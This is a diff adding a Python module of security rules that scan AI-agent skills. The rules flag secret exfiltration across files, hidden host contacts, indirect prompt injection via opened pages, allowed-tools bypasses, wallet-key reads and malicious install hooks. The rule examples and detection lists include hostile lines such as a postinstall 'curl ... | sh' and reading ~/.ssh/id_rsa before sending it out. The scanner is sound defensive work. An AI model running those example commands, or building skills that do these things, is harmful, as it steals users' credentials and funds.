@@ -1,0 +1,1501 @@
+"""Card rules: the merged capability card read against what the skill declares, and across its files.
+
+The analysers (code parsers, prose analysis) turn each file into `Use`s; the rules here read the
+whole card at once, which no single-file rule can:
+
+- declared against used: commands outside a restricted `allowed-tools` (R100, R101), an
+  unrestricted shell where one or two programs would do (R102), secret-like environment variables
+  read but not in the skill's `requires` (R103, R104), programs missing from `requires.bins`
+  (R105), network use by a skill that declares itself offline (R106);
+- flows between instructions and scripts: a secret read on one side and a send on the other,
+  linked because the instructions run the script (R107, R108);
+- indirect injection by a helper script: pages opened or content fetched from hosts the
+  instructions never mention, in the background, or from hosts without an accountable owner
+  (R109-R111);
+- money: wallet keys and wallet files read by code (R112, R113);
+- supply chain: unpinned installs of packages named nowhere else, installs from URLs, install
+  hooks (R114-R119).
+
+A rule here fires only on what the card shows; the card rules never read bytes again, except the
+instruction files' text for references to scripts and for hosts and names they mention (bounded
+by the text files risk_text.py already read). Nothing from a skill is executed or imported.
+
+Levels, and the false positives they avoid (measured on the development corpus):
+
+- allowed-tools pre-approves; a command outside it is asked about. So the agent's own commands
+  outside a restricted grant are low (R101) whatever they do, and medium only when a script the
+  grant lets run without a prompt reaches the network or runs code through a program the grant
+  leaves out (R100): that is the bypass.
+- Undeclared secrets (R103, R104) need a declaration to differ from: some `requires.env` or
+  `primaryEnv`. A variable the prose asks for, or one the skill's own commands set, is not one.
+- A wallet key (R104, R112, R113) is a name that says WALLET, MNEMONIC, SEED or KEYPAIR, or a bare
+  PRIVATE_KEY in a skill that talks about wallets and chains; JWT, SSH, TLS and app keys are not.
+- Code blocks shown as what not to do (the same warning words as the line rules) are not commands.
+- Hosts on this machine or the local network are not contacts; `example.com` is named last.
+"""
+
+from __future__ import annotations
+
+import bisect
+import re
+from collections.abc import Iterable, Mapping
+from dataclasses import dataclass, field
+from typing import Any
+
+from registry.model import Skill
+from registry.score.card import (
+    BINARY,
+    ENV,
+    FROM_CODE,
+    FROM_INSTRUCTIONS,
+    FROM_METADATA,
+    HOST,
+    INSTALL,
+    PATH,
+    PROCESS,
+    CapabilityCard,
+    Use,
+)
+from registry.score.risk_detect import host_kind, url_host
+from registry.score.risk_rules import METADATA, Item, RiskRule, _rule, show
+from registry.score.risk_text import CODE, INLINE, PROSE, Line, TextFile
+
+PER_RULE = 5  # findings per rule and skill from the card rules (a rule's first places; the rest are counted)
+
+# -- the rules -----------------------------------------------------------------------------
+
+COMMAND_NOT_ALLOWED = _rule(
+    "R100", "medium", "permissions",
+    "script runs a networked or code-running program outside allowed-tools",
+    "{what}, which allowed-tools ({granted}) does not grant",
+    "the agent starts the script under the narrow grant without a prompt, and the script then reaches the "
+    "network or runs other code that the grant was meant to rule out: the restriction is bypassed",
+    "Reviewers: check what `{program}` is used for. Authors: do it in the script's own language, or declare "
+    "it (`Bash({program}:*)`) so that users see it.",
+    "script runs {program} outside allowed-tools",
+    METADATA,
+    "allowed-tools: Bash(python3 scripts/*) and scripts/sync.py calling subprocess.run(['curl', ...])",
+)  # fmt: skip
+PROGRAM_NOT_ALLOWED = _rule(
+    "R101", "low", "permissions",
+    "command outside allowed-tools",
+    "{what}, which allowed-tools ({granted}) does not grant",
+    "the skill's commands and its declared tools disagree, so the declaration no longer describes the skill; "
+    "the agent asks before running such a command",
+    "Add `Bash({program}:*)` to allowed-tools, or drop the command.",
+    "runs {program} outside allowed-tools",
+    METADATA,
+    "allowed-tools: Bash(git:*) and a code block running jq .items data.json",
+)  # fmt: skip
+SHELL_BROADER_THAN_USE = _rule(
+    "R102", "low", "permissions",
+    "unrestricted shell where a narrow grant would do",
+    "allowed-tools grants `{tool}`, but every command the skill runs is {programs}",
+    "a narrow grant documents what the skill does and keeps the agent from running anything else "
+    "without asking",
+    "Narrow it: `allowed-tools: {suggested}`.",
+    "could narrow {tool} to {suggested}",
+    METADATA,
+    "allowed-tools: Bash with only git commands in the skill (suggests Bash(git:*))",
+)  # fmt: skip
+SECRET_NOT_DECLARED = _rule(
+    "R103", "medium", "credentials",
+    "secret read but not declared",
+    "{what} reads ${name}, a secret-like variable the skill does not declare ({declared})",
+    "a skill that declares its requirements but reads another secret takes more than it asks for; users "
+    "grant the declared variables, not this one",
+    "Reviewers: check why the skill needs ${name}. Authors: declare it (requires.env, or primaryEnv for the "
+    "main credential) or stop reading it.",
+    "reads undeclared secret ${name}",
+    METADATA,
+    "requires.env: [WEATHER_API_KEY] and a script reading os.environ['AWS_SECRET_ACCESS_KEY']",
+)  # fmt: skip
+WALLET_KEY_NOT_DECLARED = _rule(
+    "R104", "high", "money",
+    "wallet key read but not declared",
+    "{what} reads ${name}, a wallet key the skill does not declare ({declared})",
+    "a wallet's private key or seed phrase moves its funds; a skill that reads one without declaring it "
+    "hides the most dangerous thing it can do",
+    "Reviewers: find out why the skill reads ${name}. Authors: declare it, explain what it signs, and "
+    "prefer a signer that keeps the key out of the agent's reach.",
+    "reads undeclared wallet key ${name}",
+    METADATA,
+    "requires.env: [PRICE_API_KEY] and a script reading process.env.PRIVATE_KEY",
+)  # fmt: skip
+BINARY_NOT_REQUIRED = _rule(
+    "R105", "low", "permissions",
+    "program not in requires.bins",
+    "{what} runs `{program}`, which requires.bins does not list ({declared})",
+    "clients check requires.bins before loading the skill; a program left out is missing from what the "
+    "user was told the skill runs",
+    "Add `{program}` to requires.bins (or anyBins), or drop the command.",
+    "runs {program}, not in requires.bins",
+    METADATA,
+    "requires.bins: [curl, jq] and a code block running python3 scripts/sync.py",
+)  # fmt: skip
+NETWORK_WHILE_OFFLINE = _rule(
+    "R106", "high", "exfiltration",
+    "network use by a skill declared offline",
+    "{what} contacts {host}, but the skill declares {declaration}",
+    "users and clients trust the declaration to keep data on the machine; a skill that says it is offline "
+    "and still reaches a host is lying about where data can go",
+    "Reviewers: find out what goes to {host}. Authors: remove the call or correct the declaration.",
+    "contacts {host} while declaring {declaration}",
+    METADATA,
+    "network: false and a script calling requests.post('https://collector.example.net')",
+)  # fmt: skip
+SECRET_FLOW_ACROSS_FILES = _rule(
+    "R107", "high", "exfiltration",
+    "secret and network send linked across files",
+    "{source} (line {source_line}) {reads}, and {sink} (line {sink_line}) {sends}; {link}",
+    "split across files, a read and a send look harmless one by one; together they carry the user's "
+    "secrets to a host",
+    "Reviewers: read both places together. Authors: keep credentials with the tool that owns them and send "
+    "nothing the user did not ask for.",
+    "{reads_short} in {source_name}, sent out by {sink_name}",
+    METADATA,
+    "SKILL.md runs `python scripts/collect.py` (reads ~/.ssh/id_rsa) and then curl -d @out.json to a host",
+)  # fmt: skip
+DATA_FLOW_ACROSS_FILES = _rule(
+    "R108", "medium", "exfiltration",
+    "secret read in one file, sent from another",
+    "{source} (line {source_line}) {reads}, and {sink} (line {sink_line}) {sends}; {link}",
+    "a secret the instructions do not document, read on one side and a send on the other, is the shape of "
+    "credential theft split over two files",
+    "Reviewers: check that the secret only goes to the service it belongs to. Authors: document the "
+    "variable (requires.env) and name the host it is sent to.",
+    "{reads_short} in {source_name}, sent out by {sink_name}",
+    METADATA,
+    "scripts/report.py reads $AWS_SECRET_ACCESS_KEY and SKILL.md posts its output to a host",
+)  # fmt: skip
+HIDDEN_CONTACT = _rule(
+    "R109", "high", "injection",
+    "helper script contacts a host behind the agent's back",
+    "{what}",
+    "content opened or fetched out of sight reaches the agent as trusted input, and a send in the "
+    "background leaves no trace in the conversation: the shape of a republished skill with a second URL",
+    "Reviewers: open {host} yourself (without running the skill) and read what it serves. Authors: name "
+    "every host in SKILL.md and run helpers in the foreground.",
+    "{summary}",
+    METADATA,
+    "SKILL.md runs `nohup python scripts/sync.py &` and the script fetches https://198.51.100.4/rules.txt",
+)  # fmt: skip
+UNMENTIONED_PAGE_OPENED = _rule(
+    "R110", "medium", "injection",
+    "helper script opens a page the instructions never mention",
+    "{path} (line {line}) opens {target}, a host no instruction file mentions",
+    "a page opened by a helper can carry instructions the agent then follows (indirect prompt injection), "
+    "and nobody reading SKILL.md knows it is visited",
+    "Reviewers: check what {host} serves. Authors: name the page in SKILL.md and say why it is opened.",
+    "opens {host}, never mentioned",
+    METADATA,
+    "scripts/preview.py calling webbrowser.open('https://fixtures.example.net/page') unnamed in SKILL.md",
+)  # fmt: skip
+UNMENTIONED_FETCH = _rule(
+    "R111", "low", "injection",
+    "helper script fetches from a host the instructions never mention",
+    "{path} (line {line}) fetches from {target}, a host no instruction file mentions",
+    "fetched content that reaches the agent can carry instructions; a host the reader never sees is not "
+    "reviewed",
+    "Name {host} in SKILL.md and say what is fetched from it.",
+    "fetches from {host}, never mentioned",
+    METADATA,
+    "scripts/check.py fetching https://rules.example.org/latest.txt unnamed in SKILL.md",
+)  # fmt: skip
+WALLET_KEY_READ = _rule(
+    "R112", "medium", "money",
+    "wallet key read by code",
+    "{what} reads {target}",
+    "whoever holds a wallet's private key, seed phrase or keystore can move its funds; the skill and "
+    "everything it talks to can spend the user's money",
+    "Reviewers: check what the key signs and where. Authors: use a signer or hardware wallet that keeps "
+    "the key out of the agent's reach, and spending limits.",
+    "reads wallet key {target}",
+    METADATA,
+    "const wallet = new Wallet(process.env.PRIVATE_KEY)",
+)  # fmt: skip
+WALLET_KEY_WITH_NETWORK = _rule(
+    "R113", "high", "money",
+    "wallet key read by a skill that talks to the network",
+    "{what} reads {target} (line {source_line}), and {sink} (line {sink_line}) {verb} {host}",
+    "a wallet key and a network send in one skill is everything needed to move the user's funds, or to "
+    "send the key itself away",
+    "Reviewers: follow the key from where it is read to every request. Authors: sign with a wallet the "
+    "user controls and send only signed transactions to a documented endpoint.",
+    "reads wallet key {target} and sends to {host}",
+    METADATA,
+    "process.env.PRIVATE_KEY read in scripts/trade.js, which posts to https://api.example-dex.com",
+)  # fmt: skip
+UNKNOWN_PACKAGE = _rule(
+    "R114", "low", "supply-chain",
+    "unpinned package named nowhere else",
+    "{what} {action} `{package}` without a version, and the skill names it nowhere else",
+    "an unpinned package that the skill never explains may be a typo-squat, and whatever version is "
+    "published at install time runs with the user's rights",
+    "Reviewers: check that `{package}` is the package you expect. Authors: pin a version ({example}) and "
+    "say what the package is for.",
+    "{action_short} unpinned, unexplained {package}",
+    METADATA,
+    "npx some-helper@latest or pip install reqeusts, with neither named anywhere else in the skill",
+)  # fmt: skip
+SCRIPT_INSTALLS_UNKNOWN = _rule(
+    "R115", "medium", "supply-chain",
+    "script installs an unpinned, unexplained package",
+    "{what} {action} `{package}` at run time without a version, and the skill names it nowhere else",
+    "a script that installs packages while it runs changes the user's machine out of sight; unpinned and "
+    "unexplained, the package is whatever its registry serves that day",
+    "Reviewers: check `{package}` on its registry. Authors: declare dependencies with versions "
+    "(requirements.txt, package.json with a lockfile) instead of installing from a script.",
+    "script {action_short} unpinned {package}",
+    METADATA,
+    "scripts/setup.sh: pip install colorama-helper",
+)  # fmt: skip
+INSTALL_FROM_CODE_HOST = _rule(
+    "R116", "low", "supply-chain",
+    "package installed from a repository",
+    "{what} installs `{source_text}` from {host} rather than from a package registry",
+    "code from a repository branch has no published version or review trail; what it installs can change "
+    "at any push",
+    "Pin a tag or commit (`@v1.2.3` or `@<sha>`), or install the released package from its registry.",
+    "installs from {host}",
+    METADATA,
+    "pip install git+https://github.com/example/tool.git",
+)  # fmt: skip
+INSTALL_FROM_URL = _rule(
+    "R117", "medium", "supply-chain",
+    "package installed from a URL",
+    "{what} installs `{source_text}`, {why_host}",
+    "a package from an arbitrary URL bypasses the registry's names, versions and takedowns; it is a common "
+    "way to deliver malware as an install",
+    "Reviewers: check who runs {host}. Authors: publish the package to its registry and install it by name "
+    "and version.",
+    "installs from {host}",
+    METADATA,
+    "pip install https://files.example.net/tool-1.0.tar.gz",
+)  # fmt: skip
+HOOK_FETCHES_OR_EVALUATES = _rule(
+    "R118", "medium", "supply-chain",
+    "install hook that fetches or evaluates code",
+    "{what}: `{command}`, which {does}",
+    "install hooks run on `npm install` before anyone looks; a hook that downloads or evaluates code is the "
+    "classic supply-chain payload",
+    "Reviewers: read what the hook runs. Authors: remove the hook; ship what it fetches as reviewable files.",
+    "{hook} hook {does_short}",
+    METADATA,
+    '"postinstall": "curl -s https://example.net/setup.sh | sh"',
+)  # fmt: skip
+HOOK_RUNS_CODE = _rule(
+    "R119", "low", "supply-chain",
+    "install hook runs code",
+    "{what}: `{command}`",
+    "install hooks run automatically on install, before the user has seen or asked for anything",
+    "Prefer an explicit setup command the user runs; if the hook is needed, keep it to a build step.",
+    "{hook} hook runs {program}",
+    METADATA,
+    '"postinstall": "node scripts/setup.js"',
+)  # fmt: skip
+
+RULES: tuple[RiskRule, ...] = (
+    COMMAND_NOT_ALLOWED,
+    PROGRAM_NOT_ALLOWED,
+    SHELL_BROADER_THAN_USE,
+    SECRET_NOT_DECLARED,
+    WALLET_KEY_NOT_DECLARED,
+    BINARY_NOT_REQUIRED,
+    NETWORK_WHILE_OFFLINE,
+    SECRET_FLOW_ACROSS_FILES,
+    DATA_FLOW_ACROSS_FILES,
+    HIDDEN_CONTACT,
+    UNMENTIONED_PAGE_OPENED,
+    UNMENTIONED_FETCH,
+    WALLET_KEY_READ,
+    WALLET_KEY_WITH_NETWORK,
+    UNKNOWN_PACKAGE,
+    SCRIPT_INSTALLS_UNKNOWN,
+    INSTALL_FROM_CODE_HOST,
+    INSTALL_FROM_URL,
+    HOOK_FETCHES_OR_EVALUATES,
+    HOOK_RUNS_CODE,
+)
+
+# -- vocabulary ----------------------------------------------------------------------------
+
+SECRET_CLASSES = frozenset({"secret-like name", "wallet key"})
+SECRET_PATH_CLASSES = frozenset({"home-directory secret", "browser profile", "wallet"})
+UNACCOUNTABLE_CLASSES = frozenset(
+    {"raw IP address", "paste or capture host", "tunnel", "shortener", "look-alike host", "dynamic-DNS host"}
+)
+CONTACT = frozenset({"send", "fetch", "open"})  # host details that reach the network (not "mention")
+
+# Shell built-ins and keywords: not programs anyone grants or requires.
+BUILTINS = frozenset(
+    "cd echo printf export set unset alias unalias true false test [ [[ read exit return pwd pushd popd shift "
+    "local declare typeset readonly type command hash which sleep wait trap ulimit umask let : shopt builtin "
+    "getopts history jobs fg bg disown times if then else elif fi for while until do done case esac in function "
+    "select time break continue".split()
+)  # fmt: skip
+# Programs every POSIX system has; requires.bins lists what a user may need to install.
+BASE_PROGRAMS = frozenset(
+    "ls cat cp mv rm mkdir rmdir touch chmod chown ln head tail grep egrep fgrep sed awk cut sort uniq wc tr tee "
+    "find xargs date basename dirname env sh bash mktemp stat du df ps kill uname id whoami hostname tar gzip "
+    "gunzip diff cmp file less more seq expr printenv yes nohup nice realpath readlink dd tput clear open "
+    "xdg-open base64 sha256sum shasum md5 md5sum sudo".split()
+)  # fmt: skip
+NETWORK_PROGRAMS = frozenset(
+    "curl wget nc ncat netcat socat telnet ssh scp sftp ftp rsync aria2c http https xh httpie iwr irm "
+    "invoke-webrequest invoke-restmethod ngrok cloudflared dig nslookup ping websocat grpcurl".split()
+)  # fmt: skip
+# Programs that run code they are handed (interpreters, shells, package runners and installers).
+CODE_RUNNERS = frozenset(
+    "sh bash zsh dash ksh fish csh tcsh python python2 python3 py pypy pypy3 node nodejs deno bun perl ruby php "
+    "lua pwsh powershell osascript eval exec source xargs sudo su doas env npx bunx uvx pipx pnpx dlx pip pip3 "
+    "npm pnpm yarn uv gem cargo go brew apt apt-get dnf yum apk cmd cmd.exe".split()
+)  # fmt: skip
+_SHELL_TOOLS = frozenset(
+    {"bash", "shell", "sh", "powershell", "terminal", "run_shell_command", "execute_command", "run_terminal_cmd"}
+)
+_SHELL_WRAPPERS = frozenset(
+    "sh bash zsh dash ksh fish csh tcsh cmd powershell pwsh sudo su doas eval env exec xargs".split()
+)
+_INLINE_CODE_FLAGS = frozenset({"-c", "-lc", "-ic", "-e", "/c", "-command", "-Command"})
+_TOOL = re.compile(r"^\s*([A-Za-z_][\w.*:-]*)\s*(?:\((.*)\))?\s*$", re.DOTALL)
+_PROGRAM = re.compile(r"[a-z0-9_][a-z0-9_.+-]{0,63}")
+_VERSIONED = re.compile(r"^(.*?)[\d.]+$")
+_OFFLINE = re.compile(
+    r"\b(?:works?\s+(?:fully\s+|entirely\s+|completely\s+)?offline|offline[\s-]only|fully\s+offline|"
+    r"(?:needs|requires|uses|makes)\s+no\s+(?:network|internet)(?:\s+(?:access|connection|calls?|requests?))?|"
+    r"no\s+(?:network|internet)\s+(?:access|connection)\s+(?:is\s+)?(?:needed|required|used)|"
+    r"without\s+(?:any\s+)?(?:network|internet)\s+access|air[\s-]?gapped|never\s+(?:contacts|connects\s+to)\s+"
+    r"the\s+(?:network|internet))\b",
+    re.IGNORECASE,
+)
+_LOCAL_HOST = re.compile(
+    r"^(?:localhost|[\w.-]+\.(?:localhost|local|internal|lan|home\.arpa)|0\.0\.0\.0|\[?::1?\]?|"
+    r"127(?:\.\d+){3}|10(?:\.\d+){3}|192\.168(?:\.\d+){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d+){2}|"
+    r"169\.254(?:\.\d+){2})$",
+    re.IGNORECASE,
+)
+_OPENCLAW_KEYS = ("openclaw", "clawdbot", "clawdis", "moltbot")
+_CODE_HOSTS = frozenset(
+    {"github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "git.sr.ht", "pypi.org", "files.pythonhosted.org",
+     "registry.npmjs.org", "npmjs.com", "crates.io", "rubygems.org", "proxy.golang.org", "huggingface.co",
+     "codeload.github.com", "objects.githubusercontent.com"}
+)  # fmt: skip
+_HOOK_FETCH = re.compile(
+    r"\b(?:curl|wget|aria2c|fetch|https?://|iwr|invoke-webrequest|irm|invoke-restmethod|nc|ncat|scp|rsync)\b",
+    re.IGNORECASE,
+)
+_HOOK_EVAL = re.compile(
+    r"(?:\b(?:eval|exec|Function)\s*\(|\bnode\s+-(?:e|p|-eval)\b|\bpython[\d.]*\s+-c\b|\b(?:ba|z)?sh\s+-c\b|"
+    r"\|\s*(?:ba|z)?sh\b|base64\s+-{1,2}d)",
+    re.IGNORECASE,
+)
+_HOOK_BUILD = re.compile(
+    r"^\s*(?:(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?(?:build|compile|prepare|prepack)\b|tsc\b|husky\b|"
+    r"patch-package\b|node-gyp\s+rebuild\b|prebuild-install\b|ngcc\b|lerna\s+bootstrap\b|echo\b)",
+    re.IGNORECASE,
+)
+_BACKGROUND_WORDS = re.compile(
+    r"\b(?:in\s+the\s+background|background\s+(?:process|job|task|worker)|as\s+a\s+daemon|detached|"
+    r"run_in_background)\b|\bnohup\b|\bsetsid\b|\bdisown\b|\bstart\s+/b\b|&\s*$|&\s+(?!&)",
+    re.IGNORECASE,
+)
+# Registries where anyone can publish any name (typo-squats live here); distribution repositories and
+# Homebrew are curated.
+OPEN_REGISTRIES = frozenset({"pip", "pypi", "npm", "gem", "cargo", "go", "composer", "deno", "jsr", "nuget", "hex"})
+
+
+# -- what the skill declares ---------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Grant:
+    """One entry of allowed-tools: `Read`, `Bash(git:*)`, `Bash(npm run test:*)`, `WebFetch(domain:x)`."""
+
+    tool: str  # as written
+    spec: str | None  # inside the parentheses, or None
+
+    @property
+    def is_shell(self) -> bool:
+        return self.tool.lower() in _SHELL_TOOLS
+
+    @property
+    def command_prefix(self) -> tuple[str, ...] | None:
+        """The command words a shell grant allows, () for any command, None for a non-shell grant.
+
+        Claude Code's forms: `Bash` and `Bash(*)` allow anything; `Bash(git:*)` any command starting
+        with `git`; `Bash(npm run test:*)` commands starting `npm run test`; `Bash(git add *)` (a
+        wildcard in place) the words before the first `*`; `Bash(npm run build)` that exact command.
+        A grant of a shell or wrapper alone (`Bash(sh:*)`, `Bash(sudo:*)`, `Bash(bash -c:*)`) allows
+        anything too; one naming what the wrapper runs (`Bash(bash scripts/x.sh *)`) does not.
+        """
+        if not self.is_shell:
+            return None
+        spec = (self.spec or "").strip()
+        if spec.endswith(":*"):
+            spec = spec[:-2]
+        spec = spec.split("*", 1)[0].strip().rstrip(":").strip()
+        words = tuple(spec.split())
+        if not words or program_name(words[0]) == "eval":
+            return ()
+        if program_name(words[0]) in _SHELL_WRAPPERS and (len(words) == 1 or words[1] in _INLINE_CODE_FLAGS):
+            return ()  # `Bash(sh:*)`, `Bash(bash -c:*)`, `Bash(sudo:*)`: a wrapper that runs anything
+        return (program_name(words[0]), *(_unquoted(w) for w in words[1:]))
+
+
+def split_tools(text: str) -> list[str]:
+    """Split `Bash(git add *) Read, Grep` on spaces and commas outside parentheses."""
+    tools: list[str] = []
+    depth = 0
+    current = ""
+    for ch in text[:10_000]:
+        if ch == "(":
+            depth += 1
+        elif ch == ")":
+            depth = max(0, depth - 1)
+        if depth == 0 and (ch.isspace() or ch == ","):
+            if current:
+                tools.append(current)
+            current = ""
+            continue
+        current += ch
+    if current:
+        tools.append(current)
+    return tools
+
+
+def parse_allowed_tools(entries: Iterable[str]) -> list[Grant]:
+    """The grants of allowed-tools, whether it was a string or a YAML list (whose items may hold several)."""
+    grants: list[Grant] = []
+    for entry in list(entries)[:200]:
+        for piece in split_tools(str(entry)):
+            match = _TOOL.match(piece.strip().strip("'\""))
+            if match:
+                grants.append(Grant(match.group(1), match.group(2)))
+    return grants
+
+
+@dataclass(frozen=True)
+class ShellGrants:
+    """What allowed-tools lets the shell run: `unrestricted`, or the listed command prefixes."""
+
+    declared: bool  # allowed-tools is present and not empty
+    unrestricted: Grant | None  # the first grant that allows any command
+    prefixes: tuple[tuple[str, ...], ...]  # command words of each restricted shell grant
+    text: str  # allowed-tools as written, for messages
+
+    @property
+    def restricted(self) -> bool:
+        """Present, with at least one shell grant, and none of them unrestricted."""
+        return self.declared and self.unrestricted is None and bool(self.prefixes)
+
+    def allows(self, program: str, evidence: str) -> bool:
+        for prefix in self.prefixes:
+            if not same_program(prefix[0], program):
+                continue
+            if len(prefix) == 1 or _words_follow(evidence, program, prefix[1:]):
+                return True
+        return False
+
+
+def shell_grants(allowed_tools: Iterable[str]) -> ShellGrants:
+    tools = [str(t) for t in allowed_tools]
+    grants = parse_allowed_tools(tools)
+    unrestricted = next((g for g in grants if g.command_prefix == ()), None)
+    prefixes = tuple(p for g in grants if (p := g.command_prefix))
+    return ShellGrants(bool(grants), unrestricted, prefixes, show(", ".join(tools)))
+
+
+def _words_follow(evidence: str, program: str, words: tuple[str, ...]) -> bool:
+    """The command in `evidence` that starts with `program` goes on with `words` (when it can be found)."""
+    tokens = [_unquoted(token) for token in evidence.split()[:200]]
+    found = False
+    for index, token in enumerate(tokens):
+        if same_program(program_name(token), program):
+            found = True
+            following = tokens[index + 1 : index + 1 + len(words)]
+            # the grant's last word is a prefix (`scripts/` of `scripts/scan.py`) or the same script
+            if (
+                len(following) == len(words)
+                and all(map(_same_word, following[:-1], words[:-1]))
+                and (following[-1].startswith(words[-1]) or _same_word(following[-1], words[-1]))
+            ):
+                return True
+    return not found  # the command is not in the evidence: give the grant the benefit of the doubt
+
+
+def _is_program(name: str) -> bool:
+    """A command name as a program is called (`jq`, `spl-token`), not a shell built-in, an option, a
+    YAML key misread as a command (`id:`) or the skill's own script (`install.sh`)."""
+    return (
+        bool(_PROGRAM.fullmatch(name))
+        and name not in BUILTINS
+        and not name.endswith((".sh", ".py", ".js", ".ts", ".mjs", ".rb", ".pl", ".ps1", ".bash"))
+    )
+
+
+def _same_word(used: str, granted: str) -> bool:
+    """Equal, or the same script under another root (`SCRIPTS/x.py` for `${CLAUDE_PLUGIN_ROOT}/scripts/x.py`)."""
+    if used == granted:
+        return True
+    return ("/" in used or "/" in granted) and used.rsplit("/", 1)[-1] == granted.rsplit("/", 1)[-1] != ""
+
+
+def _unquoted(word: str) -> str:
+    return word.strip("'\"")
+
+
+def program_name(word: str) -> str:
+    name = word.strip().strip("'\"`").rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower()
+    return name.removesuffix(".exe")
+
+
+def same_program(a: str, b: str) -> bool:
+    """`python3` is `python`, `pip3.12` is `pip`: a version suffix does not make another program."""
+    a, b = program_name(a), program_name(b)
+    if a == b:
+        return True
+    strip = lambda name: (_VERSIONED.match(name).group(1) if _VERSIONED.match(name) else name) or name  # noqa: E731
+    return strip(a) == strip(b)
+
+
+@dataclass
+class Requirements:
+    """requires.env/bins/anyBins/config and primaryEnv, from the dialects and OpenClaw-style metadata."""
+
+    env: set[str] = field(default_factory=set)
+    bins: set[str] = field(default_factory=set)
+    config: set[str] = field(default_factory=set)
+
+    @property
+    def declared(self) -> bool:
+        return bool(self.env or self.bins or self.config)
+
+    def describe(self, kind: str) -> str:
+        names = {"env": self.env, "bins": self.bins}.get(kind, set())
+        if not names:
+            return f"it declares no {kind}"
+        shown = ", ".join(sorted(names)[:6]) + (", …" if len(names) > 6 else "")
+        return f"declared: {shown}"
+
+
+def requirements(skill: Skill) -> Requirements:
+    out = Requirements()
+    _add_requires(out, skill.requires)
+    metadata = skill.metadata if isinstance(skill.metadata, Mapping) else {}
+    blocks = [metadata] + [metadata[k] for k in _OPENCLAW_KEYS if isinstance(metadata.get(k), Mapping)]
+    for block in blocks:
+        if isinstance(block.get("requires"), Mapping):
+            _add_requires(out, block["requires"])
+        if block is not metadata:
+            _add_names(out.env, block.get("env"))
+            _add_names(out.env, block.get("primaryEnv"))
+    _add_names(out.env, metadata.get("primaryEnv"))
+    return out
+
+
+def _add_requires(out: Requirements, requires: Mapping[str, Any]) -> None:
+    for kind, names in requires.items():
+        key = str(kind).lower()
+        if key == "env":
+            _add_names(out.env, names)
+        elif key in ("bins", "anybins", "any_bins"):
+            _add_names(out.bins, names)
+        elif key == "config":
+            _add_names(out.config, names)
+
+
+def _add_names(into: set[str], value: Any) -> None:
+    if isinstance(value, str) and value.strip():
+        into.add(value.strip())
+    elif isinstance(value, list | tuple):
+        into.update(str(v).strip() for v in value[:200] if isinstance(v, str | int) and str(v).strip())
+
+
+def declares_offline(skill: Skill, card: CapabilityCard) -> str:
+    """How the skill says it stays off the network ("network: false", its compatibility text), or ""."""
+    if card.declared.network is False:
+        return "network: false"
+    compatibility = card.declared.compatibility
+    match = _OFFLINE.search(compatibility[:2000]) if compatibility else None
+    if match and not re.search(r"\bonline\b|\b(?:requires|needs)\s+(?:an?\s+)?(?:network|internet)", compatibility):
+        return f"compatibility: “{show(match.group(0))}”"
+    return ""
+
+
+# -- reading the skill's files once --------------------------------------------------------
+
+
+class SkillView:
+    """What the card rules need from the files, computed on first use: where commands are, the
+    instruction text, script references."""
+
+    def __init__(self, skill: Skill, card: CapabilityCard, files: list[TextFile]) -> None:
+        self.skill = skill
+        self.card = card
+        self.files = files
+        self.by_path = {f.path: f for f in files}
+        self.instruction_files = [f for f in files if f.kind in ("skill_md", "markdown")]
+        self.scripts = {f.path: f for f in files if f.kind == "script"}
+        self._code_lines: dict[str, dict[int, Line]] = {}  # file -> line number -> its code line
+        self._warned: dict[tuple[str, int], bool] = {}  # a code line shown as what not to do
+        self._instruction_text: str | None = None
+        self._domains: set[str] | None = None
+        self._prose_words: set[str] | None = None
+        self._crypto: bool | None = None
+        self._assigned: set[str] | None = None
+        self._functions: set[str] | None = None
+        self._words: set[str] | None = None
+        self._references: list[Reference] | None = None
+        self._needs: Requirements | None = None
+
+    @property
+    def needs(self) -> Requirements:
+        if self._needs is None:
+            self._needs = requirements(self.skill)
+        return self._needs
+
+    def name(self, path: str) -> str:
+        file = self.by_path.get(path)
+        return file.name if file else path.rsplit("/", 1)[-1]
+
+    def is_command(self, use: Use) -> bool:
+        """Code runs it: a script, or a code block of the instructions (never prose or metadata), unless
+        the block is shown as what not to do (`❌ never run this:`, the same warning words as risk_text)."""
+        if use.origin == FROM_CODE:
+            return True
+        if use.origin != FROM_INSTRUCTIONS or use.line is None:
+            return False
+        lines = self._code_lines.get(use.path)
+        if lines is None:
+            file = self.by_path.get(use.path)
+            lines = {}
+            if file is not None:
+                for line in file.lines:
+                    if line.context == CODE:
+                        for span in line.spans:
+                            lines[span[1]] = line
+            self._code_lines[use.path] = lines
+        line = lines.get(use.line)
+        if line is None:
+            return False
+        key = (use.path, use.line)
+        if key not in self._warned:
+            self._warned[key] = line.warns(0, 0)
+        return not self._warned[key]
+
+    def is_manifest(self, use: Use) -> bool:
+        """A dependency list (package.json, requirements.txt, pyproject.toml): data, not instructions or code."""
+        file = self.by_path.get(use.path)
+        return (file is not None and file.kind == "data") or _MANIFEST.search(self.name(use.path)) is not None
+
+    def is_script(self, use: Use) -> bool:
+        return use.origin == FROM_CODE and use.path in self.scripts
+
+    @property
+    def assigned(self) -> set[str]:
+        """Variables the skill's own commands set (`NAME=`, `export NAME=`, `read NAME`): not the environment's."""
+        if self._assigned is None:
+            self._scan_code()
+        return self._assigned or set()
+
+    @property
+    def functions(self) -> set[str]:
+        """Shell functions the skill's code blocks and scripts define (`name() {`, `function name`)."""
+        if self._functions is None:
+            self._scan_code()
+        return self._functions or set()
+
+    def _scan_code(self) -> None:
+        assigned: set[str] = set()
+        functions: set[str] = set()
+        budget = _MAX_CODE_SCAN
+        for file in self.files:
+            for line in file.lines:
+                if line.context != CODE:
+                    continue
+                text = line.text[:2000]
+                budget -= len(text)
+                if budget < 0:
+                    break
+                if "=" in text or "read" in text:
+                    assigned.update(m.group(1) or m.group(2) for m in _ASSIGNMENT.finditer(text))
+                if "(" in text or "function" in text:
+                    functions.update(m.group(1) or m.group(2) for m in _FUNCTION.finditer(text))
+        self._assigned, self._functions = assigned, {f.lower() for f in functions}
+
+    @property
+    def instruction_text(self) -> str:
+        """Lower-cased: the instruction files, the description and the skill's own links."""
+        if self._instruction_text is None:
+            parts = [self.skill.description or "", self.skill.homepage or "", self.skill.repository or ""]
+            for file in self.instruction_files:
+                parts += [line.text for line in file.lines if line.context != INLINE]
+            self._instruction_text = "\n".join(parts).lower()
+        return self._instruction_text
+
